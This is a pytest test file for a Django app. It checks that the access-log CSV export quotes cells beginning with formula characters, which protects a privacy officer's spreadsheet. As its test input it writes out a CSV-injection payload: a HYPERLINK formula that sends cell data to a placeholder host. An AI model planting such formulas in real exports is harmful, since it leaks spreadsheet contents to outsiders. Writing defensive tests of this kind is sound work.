"""The access-log CSV cannot carry a formula into the privacy officer's spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from cases.models.choices import AccessLevel
from partners.models import OrganisationKind
from tests.factories import OrganisationFactory, UserFactory, make_case, share


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(client_for, consulent, corporatie, start):
    # An organisation name is free text (set by an administrator) that the log copies.
    name = f'{start}HYPERLINK("http://example.invalid/?d="&A1)'
    partner = UserFactory(
        username="partner",
        organisation=OrganisationFactory(name=name, kind=OrganisationKind.GEMEENTE),
    )
    case = make_case(consulent)
    share(case, partner.organisation, AccessLevel.PROCES, consulent)
    client_for(partner).get(reverse("cases:detail", args=[case.reference]))
    privacy = UserFactory(username="privacy", organisation=corporatie, role="Privacy officer")

    response = client_for(privacy).get(
        reverse("cases:accesslog_case", args=[case.reference]), {"export": "csv"}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [row[2] for row in rows[1:] if row[1] == "partner"]
    assert cells == [f"'{name}"]
